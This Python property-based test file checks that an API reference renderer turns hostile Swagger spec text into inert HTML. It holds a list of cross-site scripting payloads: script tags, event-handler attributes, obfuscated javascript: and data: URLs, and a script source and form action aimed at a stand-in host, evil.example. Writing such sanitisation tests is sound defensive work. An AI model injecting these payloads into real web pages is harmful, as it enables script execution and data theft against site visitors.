"""Property test: no string in a spec can put active markup into the rendered page.

Hypothesis fills every text field of a generated spec (summaries, descriptions, tag names
and descriptions, parameter names, enum values, examples, header names, media types,
definition and property names, operationIds) with random text mixed with known HTML and
script payloads. The page is rendered, and a real HTML parser looks for script elements,
``on*`` attributes and script URLs. Nothing in the templates produces any of these, so
whatever is found came from the spec.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apiref.errors import escape_pointer_token
from apiref.loader import ApiVersion, SpecSource
from apiref.render import render_reference
from apiref.specs import build_spec
from conftest import build_site
from pagecheck import active_content, normalised_url

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "[link](javascript:alert(1))",
    "[link]( JaVaScRiPt:alert(1) )",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example/"><button>go</button></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>code</script>`",
    "```\n<script>fenced</script>\n```",
    "**bold** and _em_ <b onclick=alert(1)>b</b>",
    "| a | b |\n| - | - |\n| <script>x</script> | <img src=x onerror=y> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %}",
]

TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)
HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS),
    TEXT,
    st.lists(st.one_of(st.sampled_from(PAYLOADS), TEXT), min_size=2, max_size=4).map(
        "\n".join
    ),
)
NAME = st.one_of(st.sampled_from(PAYLOADS), TEXT.filter(bool))
VALUE = st.one_of(HOSTILE, st.integers(), st.booleans(), st.none(), st.lists(HOSTILE, max_size=3))


@st.composite
def hostile_specs(draw: st.DrawFn) -> dict[str, Any]:
    """A Swagger 2.0 document with hostile text in every field that reaches the page."""
    definition_names = draw(st.lists(NAME, min_size=1, max_size=3, unique=True))
    definitions = {}
    for name in definition_names:
        properties = {
            prop: {
                "type": "string",
                "description": draw(HOSTILE),
                "example": draw(VALUE),
                "default": draw(VALUE),
                "enum": draw(st.lists(VALUE, max_size=3)),
                "pattern": draw(HOSTILE),
            }
            for prop in draw(st.lists(NAME, min_size=1, max_size=3, unique=True))
        }
        definitions[name] = {
            "type": "object",
            "description": draw(HOSTILE),
            "properties": properties,
            "example": draw(VALUE),
        }
    ref = "#/definitions/" + escape_pointer_token(definition_names[0])
    tag_names = draw(st.lists(NAME, min_size=1, max_size=2, unique=True))
    operation_ids = draw(st.lists(NAME, min_size=1, max_size=3, unique=True))
    paths: dict[str, Any] = {}
    for index, operation_id in enumerate(operation_ids):
        parameters = [
            {
                "name": draw(NAME),
                "in": location,
                "type": "string",
                "description": draw(HOSTILE),
                "enum": draw(st.lists(VALUE, max_size=3)),
                "default": draw(VALUE),
                "x-example": draw(VALUE),
            }
            for location in ("query", "header", "path")
        ]
        parameters.append(
            {"name": "body", "in": "body", "description": draw(HOSTILE), "schema": {"$ref": ref}}
        )
        paths[f"/{index}/{draw(TEXT)}"] = {
            "post": {
                "operationId": operation_id,
                "tags": [draw(st.sampled_from(tag_names))],
                "summary": draw(HOSTILE),
                "description": draw(HOSTILE),
                "consumes": ["application/json", draw(HOSTILE)],
                "produces": ["application/json", draw(HOSTILE)],
                "parameters": parameters,
                "responses": {
                    "200": {
                        "description": draw(HOSTILE),
                        "schema": {"$ref": ref},
                        "headers": {draw(NAME): {"type": "string", "description": draw(HOSTILE)}},
                        "examples": {draw(NAME): draw(VALUE)},
                    },
                    "default": {"description": draw(HOSTILE), "schema": {"type": "object"}},
                },
            }
        }
    return {
        "swagger": "2.0",
        "info": {"title": draw(HOSTILE), "version": "1.45", "description": draw(HOSTILE)},
        "basePath": draw(HOSTILE),
        "tags": [
            {"name": name, "description": draw(HOSTILE), "x-displayName": draw(HOSTILE)}
            for name in tag_names
        ],
        "paths": paths,
        "definitions": definitions,
    }


SOURCE = SpecSource(ApiVersion(1, 45), Path("v1.45.json"), "spec", "v1.45.json")


def _toc_html(entries: list[dict[str, Any]]) -> str:
    """Insert TOC tokens into HTML the way MkDocs themes do: name and URL unescaped."""
    return "".join(
        f'<li><a href="#{entry["id"]}">{entry["name"]}</a><ul>{_toc_html(entry["children"])}</ul></li>'
        for entry in entries
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_specs())
def test_rendered_reference_has_no_active_content(document: dict[str, Any]) -> None:
    spec = build_spec(document, SOURCE)
    page = render_reference(spec)
    area = BeautifulSoup(page.html, "lxml").select_one("div.apiref")
    assert active_content(area) == []
    toc = BeautifulSoup(
        "<ul>" + _toc_html([entry.as_token() for entry in page.toc]) + "</ul>", "lxml"
    )
    assert active_content(toc.body) == []


@settings(
    max_examples=4,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(hostile_specs())
def test_built_page_has_no_active_content(tmp_path: Path, document: dict[str, Any]) -> None:
    project = tmp_path / "project"
    specs = project / "specs"
    specs.mkdir(parents=True, exist_ok=True)
    (specs / "v1.45.json").write_text(json.dumps(document), encoding="utf-8")
    site = build_site(project, specs, strict=False)
    assert site.ok, site.output
    page = site.soup()
    assert active_content(site.content()) == []
    scripts = [script.get_text() + str(script.get("src")) for script in page.find_all("script")]
    assert [script for script in scripts if "alert" in script or "evil" in script] == []
    for element in page.find_all(True):
        assert not [name for name in element.attrs if name.lower().startswith("on")]
        for name in ("href", "src"):
            value = element.get(name)
            if value is not None:
                assert not normalised_url(value).startswith("javascript:"), value
